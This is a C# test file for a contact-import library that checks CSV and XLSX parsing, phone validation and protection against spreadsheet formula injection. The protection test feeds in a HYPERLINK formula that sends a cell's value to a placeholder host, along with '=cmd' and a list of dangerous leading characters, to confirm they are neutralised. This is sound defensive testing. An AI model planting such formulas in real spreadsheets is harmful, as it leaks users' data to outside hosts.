using System.IO.Compression;
using System.Text;
using Callbook.Contacts;
using Callbook.Import;
using Callbook.Stores;

namespace Callbook.Tests.Import;

public sealed class ContactFileReaderTests
{
    private const string Header = "firstName,lastName,salutation,cellPhoneNumber,cellPhoneCountryCode,cellPhoneExtension";

    [Fact]
    public async Task QuotedFieldsEscapedQuotesAndLineBreaksAreRead()
    {
        var rows = await ReadAsync(Header + "\r\n" +
                                   "\"Mary \"\"Mo\"\" Ann\",\"Smith, Jr\",Ms,1234567,+1,\"\"\r\n" +
                                   "\r\n" +
                                   "Bob,Lee,Mr,7654321,+1,x");
        Assert.Equal(2, rows.Count);
        Assert.Equal(1, rows[0].Row);
        Assert.Equal("Mary \"Mo\" Ann", rows[0].Fields!.FirstName);
        Assert.Equal("Smith, Jr", rows[0].Fields!.LastName);
        Assert.Equal("", rows[0].Fields!.CellPhone.Extension);
        Assert.Equal(2, rows[1].Row);
        Assert.Equal("+17654321", rows[1].Fields!.CellPhone.PhoneNumber);
    }

    [Theory]
    [InlineData("a,\"b\"c,Ms,1234567,+1,", "closing quote")]
    [InlineData("a,b\"c\",Ms,1234567,+1,", "does not start with a quote")]
    [InlineData("a,b,Ms,1234567,+1", "5 cells")]
    [InlineData("a,\"b,Ms,1234567,+1,", "not closed")]
    public async Task MalformedRowsAreRowErrors(string line, string reason)
    {
        var rows = await ReadAsync(Header + "\n" + line + "\n");
        var row = Assert.Single(rows);
        Assert.Null(row.Fields);
        Assert.Contains(reason, Assert.Single(row.Errors).Msg, StringComparison.Ordinal);
        Assert.Equal(1, row.Errors[0].Row);
    }

    [Theory]
    [InlineData("\r\n")]
    [InlineData("\n")]
    [InlineData("\r")]
    public async Task ALineBreakInsideQuotesIsKeptExactly(string lineBreak)
    {
        var rows = await ReadAsync(Header + ",notes" + lineBreak + "a,b,Ms,1234567,+1,,\"one" + lineBreak + "two\"" + lineBreak + "c,d,Ms,1234568,+1,," + lineBreak);
        Assert.Equal(2, rows.Count);
        Assert.Equal("one" + lineBreak + "two", rows[0].Cells![6]);
        Assert.Equal("c", rows[1].Fields!.FirstName);
    }

    [Fact]
    public async Task AnUnclosedQuoteIsAnErrorOfItsRowAndTheRowsAfterItAreReadNormally()
    {
        var rows = await ReadAsync(Header + "\r\n" +
                                   "a,a,Ms,1234501,+1,\r\n" +
                                   "\"b,b,Ms,1234502,+1,\r\n" +
                                   "c,c,Ms,1234503,+1,\r\n" +
                                   "\"O\"\"Neil\",d,Ms,1234504,+1,\r\n" +
                                   "e,e,Ms,1234505,+1,\r\n");
        Assert.Equal([1, 2, 3, 4, 5], rows.Select(r => r.Row));
        Assert.Equal(["a", null, "c", "O\"Neil", "e"], rows.Select(r => r.Fields?.FirstName));
        Assert.Contains("not closed", Assert.Single(rows[1].Errors).Msg, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(';')]
    [InlineData('\t')]
    [InlineData(',')]
    public async Task TheSeparatorIsFoundFromTheHeader(char separator)
    {
        var rows = await ReadAsync("\uFEFF" + Header.Replace(',', separator) + "\r\n" + string.Join(separator, "Zoë", "Smith Jr", "Ms", "1234567", "+1", "+") + "\r\n");
        Assert.Equal("Smith Jr", Assert.Single(rows).Fields!.LastName);
    }

    [Fact]
    public async Task HeaderNamesMatchWhateverTheCaseAndWordSeparatorsAndTheExtensionIsOptional()
    {
        var rows = await ReadAsync("First Name;LAST_NAME;salutation;Cell-Phone Number;cell phone country code;Notes\nAnn;Lee;Ms;1234567;+1;x\n");
        var fields = Assert.Single(rows).Fields!;
        Assert.Equal(("Ann", "Lee", "+"), (fields.FirstName, fields.LastName, fields.CellPhone.Extension));
    }

    [Fact]
    public async Task CellsAreTrimmedNbspIncludedEmptyRowsSkippedAndTheTextMarkRemoved()
    {
        var rows = await ReadAsync(Header + "\n" + "\u00A0Ann\u00A0, Lee ,Ms, 1234567\u00A0,'+1,'+\n,,,,,\n  ,\t,,,,\n,,,,,,,\n");
        var fields = Assert.Single(rows).Fields!;
        Assert.Equal(("Ann", "Lee", "+11234567", "+1", "+"), (fields.FirstName, fields.LastName, fields.CellPhone.PhoneNumber, fields.CellPhone.CountryCode, fields.CellPhone.Extension));
    }

    [Theory]
    [InlineData("9.19876E+11")]
    [InlineData("9,19876E+11")]
    [InlineData("1E+12")]
    public async Task APhoneInScientificNotationIsARowErrorThatSaysSo(string phone)
    {
        var row = Assert.Single(await ReadAsync(Header + "\nAnn,Lee,Ms,\"" + phone + "\",+91,+\n"));
        var error = Assert.Single(row.Errors);
        Assert.Equal("cellPhoneNumber", error.Field);
        Assert.Contains("scientific notation", error.Msg, StringComparison.Ordinal);
        Assert.Contains("Text", error.Msg, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://example.invalid/?d=\"&D2,\"Call back\")")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("+1 call")]
    [InlineData("-x")]
    [InlineData("'=already marked")]
    [InlineData("'quoted")]
    [InlineData("''")]
    [InlineData("'0012")]
    [InlineData("0012")]
    [InlineData("'")]
    public void ProtectedCellsReadBackExactly(string value)
    {
        var written = SpreadsheetCells.Protect(value);
        Assert.False(written[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
        Assert.Equal(value, SpreadsheetCells.Unprotect(written));
        var phone = SpreadsheetCells.ProtectPhone(value);
        Assert.False(phone[0] is '=' or '+' or '-' or '@' or '\t' or '\r' || char.IsAsciiDigit(phone[0]));
        Assert.Equal(value, SpreadsheetCells.UnprotectPhone(phone));
    }

    [Fact]
    public async Task TheStatusColumnIsRead()
    {
        var rows = await ReadAsync(Header + ",status\na,a,Ms,1234501,+1,,INACTIVE\nb,b,Ms,1234502,+1,,active\nc,c,Ms,1234503,+1,,\nd,d,Ms,1234504,+1,,gone\n");
        Assert.Equal([ContactStatus.Inactive, ContactStatus.Active, ContactStatus.Active], rows.Take(3).Select(r => r.Status));
        Assert.Equal("status", Assert.Single(rows[3].Errors).Field);
    }

    [Fact]
    public async Task AWorkbookIsRecognisedByContentAndNumbersAreReadAsTheirDigits()
    {
        await using var file = new MemoryStream();
        var rows = new[] { new Dictionary<string, object> { ["First Name"] = "Ann", ["lastName"] = "Lee", ["salutation"] = "Ms", ["cellPhoneNumber"] = 9812345670d, ["cellPhoneCountryCode"] = 91d } };
        MiniExcelLibs.MiniExcel.SaveAs(file, rows);
        file.Position = 0;

        var (reader, error) = await ContactFileReader.OpenAsync(file, null, 10, new Callbook.Phones.PhoneRules(), TestContext.Current.CancellationToken);
        Assert.Null(error);
        var read = new List<ImportRow>();
        await foreach (var row in reader!.ReadRowsAsync(TestContext.Current.CancellationToken))
        {
            read.Add(row);
        }
        var fields = Assert.Single(read).Fields!;
        Assert.Equal(("Ann", "+919812345670", "+91", "+"), (fields.FirstName, fields.CellPhone.PhoneNumber, fields.CellPhone.CountryCode, fields.CellPhone.Extension));
    }

    [Fact]
    public async Task TheXlsxExportWritesEveryCellAsText()
    {
        var contact = new Contact("c1", "st", "ac", "o", new ContactFields("=cmd", "Lee", "Ms", new CellPhone("+", "+919812345670", "+91"), "[]", "[]"),
            ContactStatus.Inactive, "u", "a", DateTimeOffset.UnixEpoch, DateTimeOffset.UnixEpoch, null, null);
        await using var file = new MemoryStream();
        await XlsxContactWriter.WriteAsync(file, new[] { contact }.ToAsyncEnumerable(), withStatus: true, TestContext.Current.CancellationToken);

        file.Position = 0;
        using var zip = new ZipArchive(file, ZipArchiveMode.Read, leaveOpen: true);
        var sheet = await new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open()).ReadToEndAsync(TestContext.Current.CancellationToken);
        Assert.DoesNotContain("<f>", sheet, StringComparison.Ordinal);
        Assert.DoesNotContain("<v>919812345670</v>", sheet, StringComparison.Ordinal);
        file.Position = 0;
        var (reader, error) = await ContactFileReader.OpenAsync(file, null, 10, new Callbook.Phones.PhoneRules(), TestContext.Current.CancellationToken);
        Assert.Null(error);
        await foreach (var row in reader!.ReadRowsAsync(TestContext.Current.CancellationToken))
        {
            Assert.Equal((contact.Fields, ContactStatus.Inactive), (row.Fields, row.Status));
        }
    }

    [Fact]
    public async Task RowLimitStopsTheRead()
    {
        await Assert.ThrowsAsync<ImportLimitException>(() => ReadAsync(Header + "\na,b,c,1234,+1,\na,b,c,1235,+1,\n", maxRows: 1));
    }

    private static async Task<List<ImportRow>> ReadAsync(string csv, long maxRows = 100)
    {
        var (reader, error) = await ContactFileReader.OpenAsync(new MemoryStream(Encoding.UTF8.GetBytes(csv)), null, maxRows, new Callbook.Phones.PhoneRules(), TestContext.Current.CancellationToken);
        Assert.Null(error);
        var rows = new List<ImportRow>();
        await foreach (var row in reader!.ReadRowsAsync(TestContext.Current.CancellationToken))
        {
            rows.Add(row);
        }
        return rows;
    }
}
